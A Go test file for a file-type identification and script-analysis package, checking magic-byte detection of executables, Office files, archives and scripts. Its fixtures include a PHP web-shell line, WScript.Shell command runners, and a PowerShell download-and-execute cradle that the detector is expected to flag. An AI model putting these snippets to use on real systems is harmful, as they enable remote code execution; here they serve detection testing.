package fileprocessor

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"os"
	"slices"
	"strings"
	"testing"
)

func zipOf(t *testing.T, names ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, n := range names {
		f, err := w.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write([]byte("content of " + n)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func gzipOf(t *testing.T, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// minimalPE builds a PE header with the given characteristics and optional-header magic.
func minimalPE(chars uint16, magic uint16) []byte {
	b := make([]byte, 512)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(b[0x84:], 0x8664)
	binary.LittleEndian.PutUint16(b[0x84+16:], 240)
	binary.LittleEndian.PutUint16(b[0x84+18:], chars)
	binary.LittleEndian.PutUint16(b[0x98:], magic)
	return b
}

func TestIdentify(t *testing.T) {
	elfBin, err := os.ReadFile("/bin/true")
	if err != nil {
		t.Fatalf("read /bin/true: %v", err)
	}
	tar := make([]byte, 1024)
	copy(tar, "a.txt")
	copy(tar[257:], "ustar\x0000")
	tests := []struct {
		name     string
		data     []byte
		wantType string
		wantMIME string
		flavors  []string
	}{
		{"elf", elfBin, "elf", "application/x-pie-executable", []string{"elf", "executable", "elf:64", "elf:pie"}},
		{"pe32+ dll", minimalPE(0x2022, 0x20b), "pe", "application/vnd.microsoft.portable-executable", []string{"pe", "executable", "pe:dll", "pe:64"}},
		{"pe32 exe", minimalPE(0x0102, 0x10b), "pe", "application/vnd.microsoft.portable-executable", []string{"pe", "executable", "pe:32"}},
		{"dos", []byte("MZ\x90\x00this is dos"), "dosexec", "application/x-dosexec", []string{"dosexec", "executable"}},
		{"macho64", []byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00"), "macho", "application/x-mach-binary", []string{"macho", "executable", "macho:64", "macho:exec"}},
		{"fat macho", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x02rest"), "macho", "application/x-mach-binary", []string{"macho", "executable", "macho:fat"}},
		{"java class", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34rest"), "java", "application/x-java-applet", []string{"java", "executable"}},
		{"pdf", []byte("%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF"), "pdf", "application/pdf", []string{"pdf", "document"}},
		{"zip", zipOf(t, "a.txt", "b.bin"), "zip", "application/zip", []string{"zip", "archive"}},
		{"docx by content", zipOf(t, "[Content_Types].xml", "word/document.xml"), "ooxml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", []string{"ooxml", "document", "ooxml:docx"}},
		{"xlsm", zipOf(t, "[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"), "ooxml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", []string{"ooxml", "document", "ooxml:xlsx", "has_macros"}},
		{"pptx", zipOf(t, "[Content_Types].xml", "ppt/presentation.xml"), "ooxml", "application/vnd.openxmlformats-officedocument.presentationml.presentation", []string{"ooxml", "document", "ooxml:pptx"}},
		{"jar", zipOf(t, "META-INF/MANIFEST.MF", "a/B.class"), "jar", "application/java-archive", []string{"jar", "archive"}},
		{"gzip", gzipOf(t, []byte("hello")), "gzip", "application/gzip", []string{"gzip", "archive"}},
		{"bzip2", []byte("BZh91AY&SY"), "bzip2", "application/x-bzip2", nil},
		{"xz", []byte("\xfd7zXZ\x00\x00"), "xz", "application/x-xz", nil},
		{"7z", []byte("7z\xbc\xaf\x27\x1c\x00\x04"), "7z", "application/x-7z-compressed", nil},
		{"rar", []byte("Rar!\x1a\x07\x01\x00"), "rar", "application/x-rar", nil},
		{"cab", []byte("MSCF\x00\x00\x00\x00rest"), "cab", "application/vnd.ms-cab-compressed", nil},
		{"tar", tar, "tar", "application/x-tar", []string{"tar", "archive"}},
		{"png", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), "png", "image/png", []string{"png", "image"}},
		{"jpeg", []byte("\xff\xd8\xff\xe0\x00\x10JFIF"), "jpeg", "image/jpeg", []string{"jpeg", "image"}},
		{"gif", []byte("GIF89a\x01\x00\x01\x00"), "gif", "image/gif", nil},
		{"pcap", []byte("\xd4\xc3\xb2\xa1\x02\x00\x04\x00"), "pcap", "application/vnd.tcpdump.pcap", []string{"pcap", "capture"}},
		{"wasm", []byte("\x00asm\x01\x00\x00\x00"), "wasm", "application/wasm", nil},
		{"rtf", []byte(`{\rtf1\ansi hello}`), "rtf", "text/rtf", []string{"rtf", "document"}},
		{"shell", []byte("#!/bin/bash\necho hi\n"), "shell", "text/x-shellscript", []string{"shell", "script"}},
		{"shell env", []byte("#!/usr/bin/env bash\nset -e\n"), "shell", "text/x-shellscript", nil},
		{"python shebang", []byte("#!/usr/bin/env python3\nprint(1)\n"), "python", "text/x-script.python", []string{"python", "script"}},
		{"python", []byte("import os\nimport sys\n\ndef main():\n    print(os.getcwd())\n\nif __name__ == '__main__':\n    main()\n"), "python", "text/x-script.python", nil},
		{"javascript", []byte("var x = 1;\nfunction f(a) {\n  return document.getElementById(a);\n}\nconst g = (y) => y * 2;\n"), "javascript", "application/javascript", []string{"javascript", "script"}},
		{"jscript", []byte("var sh = new ActiveXObject(\"WScript.Shell\");\nsh.Run(\"calc.exe\");\n"), "javascript", "application/javascript", nil},
		{"powershell", []byte("$url = \"http://x/a\"\n$wc = New-Object System.Net.WebClient\nWrite-Host $env:TEMP\nif ($a -eq 1) { Start-Process calc }\n"), "powershell", "text/x-powershell", []string{"powershell", "script"}},
		{"vbscript", []byte("Option Explicit\nDim sh\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"cmd\"\nWScript.Echo \"done\"\n"), "vbscript", "text/vbscript", nil},
		{"batch", []byte("@echo off\r\nset foo=bar\r\nif exist %TEMP%\\x goto end\r\n:end\r\n"), "batch", "text/x-msdos-batch", nil},
		{"php", []byte("<?php\necho system($_GET['c']);\n"), "php", "text/x-php", nil},
		{"html", []byte("<!DOCTYPE html>\n<html><body>hi</body></html>\n"), "html", "text/html", []string{"html", "script"}},
		{"hta", []byte("<html><head><HTA:APPLICATION ID=x></head><script>x</script></html>"), "hta", "text/html", nil},
		{"xml", []byte("<?xml version=\"1.0\"?>\n<a><b/></a>\n"), "xml", "text/xml", nil},
		{"json", []byte(`{"a": [1, 2, {"b": null}]}`), "json", "application/json", []string{"json", "text"}},
		{"not json", []byte(`{"a": [1, 2`), "text", "text/plain", nil},
		{"text", []byte("Hello, this is a letter.\nRegards,\nme\n"), "text", "text/plain", []string{"text"}},
		{"utf16 powershell", append([]byte{0xff, 0xfe}, utf16le("Write-Host $env:USERNAME\r\nGet-Process | Out-Null\r\n")...), "powershell", "text/x-powershell", nil},
		{"data", []byte{0x00, 0x01, 0x02, 0xff, 0x10, 0x00}, "data", "application/octet-stream", []string{"data"}},
		{"empty", nil, "empty", "application/x-empty", nil},
		{"lnk", append([]byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"), make([]byte, 60)...), "lnk", "application/x-ms-shortcut", nil},
		{"sqlite", []byte("SQLite format 3\x00rest"), "sqlite", "application/vnd.sqlite3", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Identify(tc.data)
			if got.FileType != tc.wantType || got.MIME != tc.wantMIME {
				t.Fatalf("Identify = %q %q, want %q %q", got.FileType, got.MIME, tc.wantType, tc.wantMIME)
			}
			if tc.flavors != nil && !slices.Equal(got.Flavors(), tc.flavors) {
				t.Errorf("flavors = %q, want %q", got.Flavors(), tc.flavors)
			}
		})
	}
}

func utf16le(s string) []byte {
	out := make([]byte, 0, 2*len(s))
	for _, c := range []byte(s) {
		out = append(out, c, 0)
	}
	return out
}

func TestIdentifyOLEAndDotNet(t *testing.T) {
	dotnet := buildPE(t, peSpec{entry: 0x1000, sections: []peSec{{name: ".text", chars: 0x60000020, data: make([]byte, 0x200)}}})
	// Data directory 14 (CLR runtime header) of a PE32 optional header.
	clr := 0x80 + 24 + 96 + 14*8
	binary.LittleEndian.PutUint32(dotnet[clr:], 0x1000)
	binary.LittleEndian.PutUint32(dotnet[clr+4:], 0x48)
	tests := []struct {
		name, wantMIME string
		data           []byte
		hint           string
	}{
		{"msi by root CLSID", "application/x-msi", buildCFB(t, map[string][]byte{"\u4840\u3f3f": make([]byte, 64)}, msiCLSID[:]), "ole:msi"},
		{"xls by Workbook", "application/vnd.ms-excel", buildCFB(t, map[string][]byte{"Workbook": make([]byte, 600)}, nil), "ole:xls"},
		{"ppt", "application/vnd.ms-powerpoint", buildCFB(t, map[string][]byte{"PowerPoint Document": make([]byte, 600)}, nil), "ole:ppt"},
		{"generic ole", "application/x-ole-storage", buildCFB(t, map[string][]byte{"Other": make([]byte, 600)}, nil), ""},
		{".NET assembly", "application/vnd.microsoft.portable-executable", dotnet, "pe:dotnet"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			id := Identify(tc.data)
			if id.MIME != tc.wantMIME {
				t.Fatalf("MIME %q, want %q", id.MIME, tc.wantMIME)
			}
			if tc.hint != "" && !slices.Contains(id.Flavors(), tc.hint) {
				t.Errorf("flavors %v lack %s", id.Flavors(), tc.hint)
			}
		})
	}
}

func TestScriptIndicatorLines(t *testing.T) {
	src := "line one\n$x = 1\nIEX (New-Object Net.WebClient).DownloadString('http://a/b')\n"
	info, findings := analyzeScript([]byte(src), "powershell")
	if info.Lines != 3 {
		t.Errorf("lines = %d", info.Lines)
	}
	byName := map[string]int32{}
	for _, ind := range info.Indicators {
		byName[ind.Name] = ind.Line
	}
	if byName["invoke_expression"] != 3 || byName["download_cradle"] != 3 {
		t.Errorf("indicator lines = %v", byName)
	}
	for _, f := range findings {
		if f.Id == "script.download_cradle" {
			if f.Offset != int64(strings.Index(src, "Net.WebClient")) || !slices.Contains(f.AttackTechniques, "T1105") {
				t.Errorf("download cradle finding offset %d attack %v", f.Offset, f.AttackTechniques)
			}
			return
		}
	}
	t.Error("no script.download_cradle finding")
}
